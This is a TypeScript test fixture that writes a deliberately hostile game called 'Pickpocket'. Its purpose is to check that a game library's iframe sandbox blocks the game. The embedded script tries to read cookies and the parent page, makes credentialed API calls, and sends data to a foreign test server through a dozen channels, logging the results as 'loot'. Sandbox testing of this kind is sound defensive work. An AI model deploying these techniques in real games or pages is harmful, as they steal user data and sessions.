/** A game that tries everything a game must not do, once asked to; until then it only loads its save. */
import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import type { TitleFile } from '../../packages/contracts/src/library.ts'

export const TEST_GAME = 'Pickpocket'

/** What the bundle exposes to the journey that inspects its frame. */
export type TestGame = {
  /** All messages from the page to the game. */
  heard: { type: string; text?: string | null }[]
  /** Tries all attacks but the last; returns the outcome of each by name. `outside` is the address of a foreign server. */
  attack: (outside: string) => Promise<Record<string, string>>
  say: (message: object) => void
}

/** Writes the game into a library folder, for an ordinary import. */
export async function writeTestGame(library: string): Promise<void> {
  const folder = path.join(library, 'Games', TEST_GAME)
  await mkdir(folder, { recursive: true })
  const facts: TitleFile = {
    texts: { en: { title: TEST_GAME }, de: { title: 'Taschendieb' } },
    rating: 'USK 0',
    categories: ['pc-games:casual'],
  }
  await writeFile(path.join(folder, 'quintet.json'), JSON.stringify(facts))
  await writeFile(path.join(folder, 'game.js'), SCRIPT)
  await writeFile(
    path.join(folder, 'index.html'),
    '<!doctype html><title>Pickpocket</title><p>Pickpocket</p><script src="game.js"></script>',
  )
}

const SCRIPT = `
const heard = []
addEventListener('message', ({ data }) => heard.push(data))
const say = (message) => parent.postMessage({ quintet: 1, ...message }, '*')
say({ type: 'load' })

const page = location.ancestorOrigins[0]
const later = (ms) => new Promise((done) => setTimeout(done, ms))

function loads(element, attribute, address) {
  return new Promise((done, failed) => {
    element.onload = () => done('loaded')
    element.onerror = () => failed(new Error('refused'))
    element[attribute] = address
    document.body.append(element)
    setTimeout(() => failed(new Error('nothing came')), 1000)
  })
}
function opens(channel) {
  return new Promise((done, failed) => {
    channel.onopen = () => done('opened')
    channel.onerror = () => failed(new Error('refused'))
    setTimeout(() => failed(new Error('nothing came')), 1000)
  })
}
function link(rel, address) {
  return loads(Object.assign(document.createElement('link'), { rel }), 'href', address)
}
function nested(script) {
  const frame = document.createElement('iframe')
  frame.srcdoc = '<script>' + script + '<' + '/script>'
  document.body.append(frame)
  return later(300)
}

const attacks = (outside) => ({
  cookie: () => document.cookie,
  'own storage': () => localStorage.length,
  'own database': () => indexedDB.open('x').then,
  'the page': () => parent.document.title,
  'the page’s storage': () => parent.localStorage.getItem('player:preferences'),
  'the page’s address': () => top.location.href,
  'the API': () => fetch(page + '/api/user/me', { credentials: 'include' }).then((answer) => answer.text()),
  'the API, blindly': () => fetch(page + '/api/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(() => 'sent'),
  'the API as a picture': () => loads(new Image(), 'src', page + '/favicon.ico'),
  fetch: () => fetch(outside + 'fetch', { mode: 'no-cors' }).then(() => 'sent'),
  picture: () => loads(new Image(), 'src', outside + 'picture'),
  script: () => loads(document.createElement('script'), 'src', outside + 'script'),
  style: () => link('stylesheet', outside + 'style'),
  prefetch: () => link('prefetch', outside + 'prefetch'),
  preload: () => loads(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script' }), 'href', outside + 'preload'),
  sound: () => new Audio(outside + 'sound').play().then(() => 'played'),
  frame: () => loads(document.createElement('iframe'), 'src', outside + 'frame').then(() => { throw new Error('an empty frame') }),
  'web socket': () => opens(new WebSocket(outside.replace('http', 'ws') + 'socket')),
  events: () => opens(new EventSource(outside + 'events')),
  worker: () => opens(new Worker(URL.createObjectURL(new Blob(['fetch("' + outside + 'worker")'])))),
  'service worker': () => navigator.serviceWorker.register('game.js'),
  form: async () => {
    const form = Object.assign(document.createElement('form'), { action: outside + 'form', method: 'post', target: '_top' })
    document.body.append(form)
    form.submit()
    await later(300)
    throw new Error('still here')
  },
  'a window': () => window.open(outside + 'window').location,
  'another page': async () => {
    top.location.href = outside + 'top'
    await later(300)
    throw new Error('still here')
  },
  dialogs: async () => {
    alert('x')
    throw new Error('nobody saw it')
  },
  'a save from a frame within': async () => {
    await nested('top.postMessage({ quintet: 1, type: "save", text: "forged" }, "*")')
    throw new Error('not heard, as the service shows')
  },
  'ten megabytes': async () => {
    const before = heard.length
    say({ type: 'save', text: 'x'.repeat(10_000_000) })
    await later(1000)
    const answer = heard.slice(before).map(({ type }) => type).join()
    if (answer === 'not-saved') throw new Error(answer)
    return answer
  },
})

globalThis.testGame = {
  heard,
  say,
  async attack(outside) {
    const loot = {}
    for (const [name, attack] of Object.entries(attacks(outside)))
      try {
        const got = await attack()
        loot[name] = 'got ' + String(got)
      } catch (error) {
        loot[name] = 'refused'
      }
    return loot
  },
}
`
